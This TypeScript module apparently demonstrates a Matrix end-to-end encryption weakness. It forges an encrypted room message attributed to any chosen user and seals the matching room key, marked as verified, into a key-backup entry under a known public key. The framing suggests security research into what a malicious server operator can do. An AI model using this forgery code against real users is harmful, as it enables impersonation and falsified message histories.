// SPDX-License-Identifier: EUPL-1.2
// What whoever runs a server can make without anybody's device: a message "of" somebody, and the key that opens
// it, sealed for a backup whose public key they know.
import {
  CollectStrategy,
  Curve25519PublicKey,
  DeviceId,
  EncryptionSettings,
  initAsync,
  OlmMachine,
  PkEncryption,
  RoomId,
  UserId,
} from '@matrix-org/matrix-sdk-crypto-wasm';

export interface Forged {
  readonly sessionId: string;
  /** Of an m.room.encrypted. */
  readonly content: object;
  /** What stands for the key in the backup. */
  readonly kept: object;
}

const unpadded = (bytes: Uint8Array): string => Buffer.from(bytes).toString('base64').replace(/=+$/, '');

function sealed(publicKey: string, value: object): object {
  const message = PkEncryption.fromKey(new Curve25519PublicKey(publicKey)).encryptString(
    JSON.stringify(value),
  );
  return {
    ciphertext: unpadded(message.ciphertext()),
    mac: unpadded(message.mac()),
    ephemeral: message.ephemeralKey().toBase64(),
  };
}

export async function forge(
  author: string,
  roomId: string,
  publicKey: string,
  body: string,
): Promise<Forged> {
  await initAsync();
  const machine = await OlmMachine.initialize(new UserId(author), new DeviceId('FORGED'));
  const settings = new EncryptionSettings();
  settings.sharingStrategy = CollectStrategy.allDevices();
  await machine.shareRoomKey(new RoomId(roomId), [], settings);
  const said = JSON.stringify({ msgtype: 'm.text', body });
  const content = JSON.parse(await machine.encryptRoomEvent(new RoomId(roomId), 'm.room.message', said)) as {
    session_id: string;
  };
  const [key] = JSON.parse(await machine.exportRoomKeys(() => true)) as object[];
  return {
    sessionId: content.session_id,
    content,
    kept: {
      first_message_index: 0,
      forwarded_count: 0,
      is_verified: true,
      session_data: sealed(publicKey, key ?? {}),
    },
  };
}
